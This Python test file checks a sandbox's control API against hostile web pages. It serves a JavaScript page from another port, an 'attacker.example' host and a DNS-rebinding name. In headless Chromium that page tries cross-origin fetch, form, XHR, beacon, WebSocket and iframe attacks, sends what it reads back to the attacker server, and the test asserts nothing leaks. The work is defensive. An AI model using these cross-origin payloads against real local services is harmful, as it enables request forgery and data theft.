"""Pages of other origins against the control API, in a real browser."""

import http.server
import json
import queue
import subprocess
import tempfile
import threading
import urllib.request

from sandbox.checks import Checks
from sandbox.server import Server

SECONDS = 60
NAME = '{"name":"%s"}'

# Each attack gives what it could read, or throws. `target` is the control API, or in the rebinding the page's own name.
PAGE = """<!doctype html><meta charset=utf-8><body><script>
const target = "%s", seen = {};
const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
const tenant = (name) => JSON.stringify({name});
const call = async (path, options) => {
  const answer = await fetch(target + path, options);
  return answer.type === "opaque" ? "" : answer.ok ? await answer.text() : "";
};
const element = (kind, path) => new Promise((done) => {
  const made = document.createElement(kind);
  made.onload = () => done("loaded"); made.onerror = () => done("");
  made.src = target + path; document.body.append(made);
});
const form = (action, type) => new Promise((done) => {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const made = document.createElement("form"); made.method = "post"; made.enctype = type; made.action = target + action;
  made.target = frame.name;
  const field = document.createElement("input"); field.name = '{"name":"form","x":"'; field.value = '"}';
  made.append(field); document.body.append(made);
  const inside = () => { try { return frame.contentDocument.body.innerText.includes('"name":"form"') ? "read" : ""; } catch { return ""; } };
  frame.onload = () => done(inside()); made.submit();
});
const navigation = () => new Promise((done) => {
  const frame = document.createElement("iframe"); document.body.append(frame);
  const inside = () => { try { return frame.contentDocument.body.innerText.includes('"tsp-sandbox-world"') ? "read" : ""; } catch { return ""; } };
  frame.onload = () => done(inside()); frame.src = target + "/v1/export";
});
const attacks = {
  "fetch of the export": () => call("/v1/export"),
  "fetch of the export, no-cors": () => call("/v1/export", {mode: "no-cors"}),
  "fetch with JSON": () => call("/v1/tenants", {method: "POST", headers: json, body: tenant("json")}),
  "fetch with text/plain": () => call("/v1/tenants", {method: "POST", headers: plain, body: tenant("plain")}),
  "fetch with text/plain, no-cors": () => call("/v1/tenants", {method: "POST", mode: "no-cors", headers: plain, body: tenant("nocors")}),
  "reset without a body, no-cors": () => call("/v1/tenants/victim/reset", {method: "POST", mode: "no-cors"}),
  "DELETE": () => call("/v1/tenants/victim", {method: "DELETE"}),
  "form as text/plain": () => form("/v1/tenants", "text/plain"),
  "form, url-encoded": () => form("/v1/tenants/victim/reset", "application/x-www-form-urlencoded"),
  "XHR": () => new Promise((done) => {
    const made = new XMLHttpRequest(); made.open("POST", target + "/v1/tenants");
    made.onload = () => done(made.status < 400 ? made.responseText : ""); made.onerror = () => done(""); made.send(tenant("xhr"));
  }),
  "sendBeacon": async () => { navigator.sendBeacon(target + "/v1/tenants", tenant("beacon")); return ""; },
  "image": () => element("img", "/v1/export"),
  "script": () => element("script", "/v1/export"),
  "WebSocket": () => new Promise((done) => {
    const made = new WebSocket(target.replace("http", "ws") + "/v1/export");
    made.onopen = () => done("open"); made.onerror = () => done("");
  }),
  "navigation to the export": navigation,
};
(async () => {
  for (const [name, attack] of Object.entries(attacks)) { try { seen[name] = await attack(); } catch { seen[name] = ""; } }
  try { seen.own = await (await fetch("%s/own")).text(); } catch (error) { seen.own = String(error); }
  await fetch("%s/seen", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


class Attacker(http.server.ThreadingHTTPServer):
    """Serves the page, and takes what it saw."""

    def __init__(self):
        self.page, self.seen = "", queue.Queue()
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, text):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(text.encode())

    def do_GET(self):
        self.answer("own" if self.path == "/own" else self.server.page)

    def do_POST(self):
        self.server.seen.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer("")

    def log_message(self, *_):
        pass


def visit(attacker, url):
    """What the page saw; the browser is ended by its own process."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}"]
        command += ["--host-resolver-rules=MAP *.example 127.0.0.1", "--remote-debugging-port=0", url]
        browser = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            return attacker.seen.get(timeout=SECONDS)
        except queue.Empty:
            return None
        finally:
            browser.terminate()
            browser.wait()


def state(server):
    names = sorted(item["name"] for item in server.control("GET", "/v1/tenants")["items"])
    request = urllib.request.Request(server.url("control") + "/v1/cards", headers={"X-Sandbox-Tenant": "victim"})
    with urllib.request.urlopen(request) as answer:
        return names, len(json.load(answer)["items"])


def send(server, method, path, body=None):
    """What a proper client sends: JSON, no Origin, the address's own Host."""
    headers = {"Content-Type": "application/json", "X-Sandbox-Tenant": "victim"}
    made = urllib.request.Request(server.url("control") + path, method=method, headers=headers, data=body and body.encode())
    with urllib.request.urlopen(made) as answer:
        return answer.read().decode()


def main(binary):
    subprocess.run(["scripts/install-packages", "chromium"], check=True)
    check, attacker = Checks(), Attacker()
    with Server(binary) as server:
        send(server, "POST", "/v1/tenants", NAME % "victim")
        card = {"issuerId": "DEMOBANK01", "issuerCardRefId": "kept", "pan": "4111111111111111", "exp": "1230"}
        send(server, "POST", "/v1/cards", json.dumps(card))
        before, port = state(server), attacker.server_address[1]
        control = server.url("control")
        places = {
            "another port": (f"http://127.0.0.1:{port}", control),
            "another host name": (f"http://attacker.example:{port}", control),
            "a name rebound to loopback": (f"http://rebound.example:{port}", f"http://rebound.example:{server.ports['control']}"),
        }
        for name, (origin, target) in places.items():
            check.section(f"A page of {name}")
            attacker.page = PAGE % (target, origin, origin)
            seen = visit(attacker, origin + "/")
            check("the page ran and read its own server", seen and seen.pop("own") == "own", seen)
            for attack, read in (seen or {}).items():
                check(f"{attack}: nothing is read", read == "", read[:200])
            check("nothing is changed", state(server) == before, state(server))
        check.section("A proper client")
        check("reads the export", '"tsp-sandbox-world"' in send(server, "GET", "/v1/export"))
        send(server, "POST", "/v1/tenants", NAME % "proper")
        check("makes a tenant", "proper" in state(server)[0])
        send(server, "POST", "/v1/tenants/victim/reset")
        check("resets one", state(server)[1] != before[1], state(server))
        send(server, "DELETE", "/v1/tenants/victim")
        check("deletes one", "victim" not in [item["name"] for item in server.control("GET", "/v1/tenants")["items"]])
    return check.finish()
